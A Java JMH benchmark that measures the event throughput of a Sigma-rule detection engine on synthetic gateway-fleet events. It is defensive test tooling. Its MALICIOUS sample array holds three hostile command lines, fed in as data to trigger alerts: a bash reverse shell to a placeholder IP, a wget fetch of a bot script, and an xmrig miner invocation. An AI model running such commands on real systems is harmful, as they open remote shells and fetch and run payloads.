package io.vigil.bench.detect;

import io.vigil.detect.pack.BuiltInPack;
import io.vigil.detect.sigma.DueTimers;
import io.vigil.detect.sigma.LoadResult;
import io.vigil.detect.sigma.SigmaDetection;
import io.vigil.detect.sigma.SigmaEngine;
import io.vigil.detect.sigma.SigmaRules;
import io.vigil.model.Alert;
import io.vigil.model.event.ConnectionCreate;
import io.vigil.model.event.DeviceEvent;
import io.vigil.model.event.Direction;
import io.vigil.model.event.EventHeader;
import io.vigil.model.event.Heartbeat;
import io.vigil.model.event.Login;
import io.vigil.model.event.ProcessCreate;
import io.vigil.model.event.SecurityEvent;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.TimeUnit;
import java.util.function.Consumer;
import org.openjdk.jmh.annotations.Benchmark;
import org.openjdk.jmh.annotations.BenchmarkMode;
import org.openjdk.jmh.annotations.Fork;
import org.openjdk.jmh.annotations.Measurement;
import org.openjdk.jmh.annotations.Mode;
import org.openjdk.jmh.annotations.OutputTimeUnit;
import org.openjdk.jmh.annotations.Param;
import org.openjdk.jmh.annotations.Scope;
import org.openjdk.jmh.annotations.Setup;
import org.openjdk.jmh.annotations.State;
import org.openjdk.jmh.annotations.Warmup;

/**
 * Events per second on one core through the Sigma engine with the whole built-in pack loaded plus
 * N generated process_creation rules (10, 200, 1,000), on a mix like a gateway fleet's: 55%
 * process starts, 30% outbound connections, 10% logins (a fifth failed), 5% heartbeats, from 100
 * devices, with a few malicious process starts (about 0.5%) that raise alerts. One benchmark
 * operation is one event (ops/s = events/s), including the alerts it raises and the correlation
 * state it updates.
 *
 * <p>The 65,536 events span 655 s of event time. Every 4,096 events the runtime's clock advances
 * to the latest event time and due correlation timers fire, as the server's pipeline does now and
 * then. After the last event the engine starts over with empty correlation state: replaying the
 * same event times into the old state would pile duplicate matches into its windows, which no
 * real stream does.
 *
 * <p>The generated rules are of four shapes, a quarter each: an {@code Image|endswith}, a
 * {@code CommandLine|contains|all} of two flags, a {@code CommandLine|re}, and a
 * {@code ParentImage|endswith} with a shell {@code Image}.
 *
 * <p>Run: {@code java -jar bench/target/benchmarks.jar EngineThroughputBenchmark}
 */
@BenchmarkMode(Mode.Throughput)
@OutputTimeUnit(TimeUnit.SECONDS)
@Fork(value = 1, jvmArgsAppend = {"--sun-misc-unsafe-memory-access=allow", "-Xms1g", "-Xmx1g"})
@Warmup(iterations = 3, time = 3)
@Measurement(iterations = 3, time = 3)
@State(Scope.Thread)
public class EngineThroughputBenchmark {
  private static final int EVENTS = 1 << 16;
  private static final Instant START = Instant.parse("2026-11-22T10:00:00Z");
  private static final String[][] PROGRAMS = {
      {"/usr/bin/ls", "ls -la /var/log"}, {"/usr/bin/cat", "cat /etc/os-release"}, {"/usr/bin/curl", "curl -s https://api.example.com/v1/telemetry"},
      {"/usr/sbin/ip", "ip addr show eth0"}, {"/usr/bin/python3", "python3 /opt/app/collector.py --interval 10"},
      {"/bin/sh", "sh -c /opt/app/healthcheck.sh"}, {"/usr/bin/systemctl", "systemctl status app.service"},
      {"/usr/bin/grep", "grep -c ERROR /var/log/app.log"}, {"/usr/bin/date", "date +%s"}, {"/usr/bin/awk", "awk {print $1} /proc/loadavg"}};
  private static final String[][] MALICIOUS = {
      {"/tmp/.x/xmrig", "/tmp/.x/xmrig -o stratum+tcp://pool.example:3333 -u wallet"},
      {"/bin/bash", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
      {"/usr/bin/wget", "wget http://198.51.100.7/bot.sh -O /tmp/bot.sh"}};

  @Param({"10", "200", "1000"})
  public int extraRules;

  private SigmaDetection detection;
  private LoadResult loaded;
  private final DeviceEvent[] events = new DeviceEvent[EVENTS];
  private int next;
  private long alerts;
  private final Consumer<Alert> sink = a -> alerts++;

  @Setup
  public void setUp() {
    SigmaRules.Loader loader = BuiltInPack.addTo(SigmaRules.loader());
    for (int i = 0; i < extraRules; i++) {
      loader.add("generated-" + i + ".yml", rule(i));
    }
    loaded = loader.load();
    if (!loaded.problems().isEmpty()) {
      throw new IllegalStateException("generated rules do not load: " + loaded.problems());
    }
    detection = newDetection();
    Random random = new Random(42);
    for (int i = 0; i < EVENTS; i++) {
      Instant t = START.plusMillis(i * 10L);
      events[i] = new DeviceEvent("gw-" + random.nextInt(100), "default", "agent", "0.1.0", t, event(random, EventHeader.at(t, ZoneOffset.UTC)));
    }
  }

  /** The engine as the server builds it, with empty correlation state. */
  private SigmaDetection newDetection() {
    DueTimers timers = new DueTimers();
    Duration lateness = Duration.ofMinutes(1);
    return new SigmaDetection(SigmaEngine.builder(loaded.rules()).timers(timers).allowedLateness(lateness).build(), timers, lateness);
  }

  private static String rule(int i) {
    String detection = switch (i % 4) {
      case 0 -> "  selection:\n    Image|endswith: '/gen-tool-" + i + "'\n  condition: selection";
      case 1 -> "  selection:\n    CommandLine|contains|all:\n      - '--gen-flag-" + i + "'\n      - '--mode'\n  condition: selection";
      case 2 -> "  selection:\n    CommandLine|re: 'gen[0-9]+-" + i + "\\b'\n  condition: selection";
      default -> "  selection:\n    ParentImage|endswith: '/gen-parent-" + i + "'\n    Image|endswith:\n      - '/sh'\n      - '/bash'\n"
          + "  condition: selection";
    };
    return "title: Generated rule " + i + "\nid: 00000000-0000-4000-8000-" + String.format("%012d", i) + "\nstatus: test\nlevel: medium\n"
        + "logsource:\n  product: linux\n  category: process_creation\ndetection:\n" + detection + "\n";
  }

  private static SecurityEvent event(Random random, EventHeader h) {
    int roll = random.nextInt(1000);
    if (roll < 550) {
      String[] p = roll < 5 ? MALICIOUS[random.nextInt(MALICIOUS.length)] : PROGRAMS[random.nextInt(PROGRAMS.length)];
      return new ProcessCreate(h, java.util.List.of(new ProcessCreate.Process(p[0], 1000 + random.nextInt(30000), 900, "0", "root", p[1],
          Map.of("ParentExecutable", "/usr/lib/systemd/systemd"))));
    } else if (roll < 850) {
      String remote = "10.0." + random.nextInt(4) + "." + random.nextInt(250);
      return new ConnectionCreate(h, java.util.List.of(new ConnectionCreate.Connection(remote, random.nextBoolean() ? "443" : "8883",
          "10.1.0.5", Integer.toString(40000 + random.nextInt(20000)), Direction.OUT, "TCP", 1200, "1000", "/usr/bin/python3",
          "python3 /opt/app/collector.py", Map.of())));
    } else if (roll < 950) {
      Login.Result result = random.nextInt(5) == 0 ? Login.Result.FAIL : Login.Result.SUCCESS;
      return new Login(h, java.util.List.of(new Login.Attempt(700, "1000", "operator", "ssh", "/usr/sbin/sshd",
          "192.168.1." + random.nextInt(20), "52000", "22", result, Map.of())));
    }
    return new Heartbeat(h, java.util.List.of(new Heartbeat.Beat(3600, Map.of())));
  }

  @Benchmark
  public long evaluate() {
    int i = next++ & (EVENTS - 1);
    DeviceEvent event = events[i];
    if (i == 0) {
      detection = newDetection();
    } else if ((i & 4095) == 0) {
      detection.advance(event.event().header().timestampUtc(), sink);
    }
    detection.evaluate(event, sink);
    return alerts;
  }
}
